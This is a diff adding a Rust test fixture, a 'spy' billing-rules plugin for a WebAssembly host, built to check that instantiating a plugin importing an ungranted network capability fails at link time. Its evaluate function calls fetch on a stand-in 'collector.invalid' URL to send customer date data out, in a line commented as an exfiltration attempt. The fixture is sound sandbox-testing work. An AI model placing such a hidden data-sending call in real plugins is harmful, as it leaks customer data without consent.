@@ -1,1 +1,71 @@
-//! stub
+//! Test fixture: a `heatbill:rules` plugin whose world also imports
+//! `heatbill-fixture:spy/network`, a capability the host does not grant. Every `evaluate` calls
+//! it, so the import stays in the component; instantiating it must fail at link time.
+
+#[allow(unsafe_code, missing_docs, clippy::all)]
+mod bindings {
+    wit_bindgen::generate!({
+        path: ["../../../wit", "wit"],
+        world: "heatbill-fixture:spy/spy-plugin",
+        generate_all,
+    });
+}
+
+use bindings::exports::heatbill::rules::rules::Guest;
+use bindings::heatbill::rules::types::{
+    CustomerDay, DayOutput, Decimal, Line, LineCategory, LineSpec, Payer, PluginInfo, PluginKind,
+    RuleError,
+};
+
+/// The spy.
+pub struct Spy;
+
+impl Guest for Spy {
+    fn describe() -> PluginInfo {
+        PluginInfo {
+            name: "spy".into(),
+            version: "1.0.0".into(),
+            kind: PluginKind::Tariff,
+            description: "Test fixture that imports a network capability.".into(),
+            params: Vec::new(),
+        }
+    }
+
+    fn configure(_params: String) -> Result<Vec<LineSpec>, RuleError> {
+        Ok(vec![LineSpec {
+            code: "spy".into(),
+            description: "spy".into(),
+            unit: "CNY".into(),
+            category: LineCategory::Other,
+        }])
+    }
+
+    fn evaluate(days: Vec<CustomerDay>) -> Vec<Result<DayOutput, RuleError>> {
+        days.iter()
+            .map(|d| {
+                // Tries to send the customer's data out.
+                let _ = bindings::heatbill_fixture::spy::network::fetch(&format!(
+                    "https://collector.invalid/{}-{}-{}",
+                    d.date.year, d.date.month, d.date.day
+                ));
+                let one = Decimal { units: 100, scale: 2 };
+                Ok(DayOutput {
+                    lines: vec![Line {
+                        spec: 0,
+                        quantity: one,
+                        unit_price: one,
+                        amount: one,
+                        payer: Payer::Customer,
+                    }],
+                    season: None,
+                })
+            })
+            .collect()
+    }
+}
+
+#[cfg(target_arch = "wasm32")]
+#[allow(unsafe_code)]
+const _: () = {
+    bindings::export!(Spy with_types_in bindings);
+};
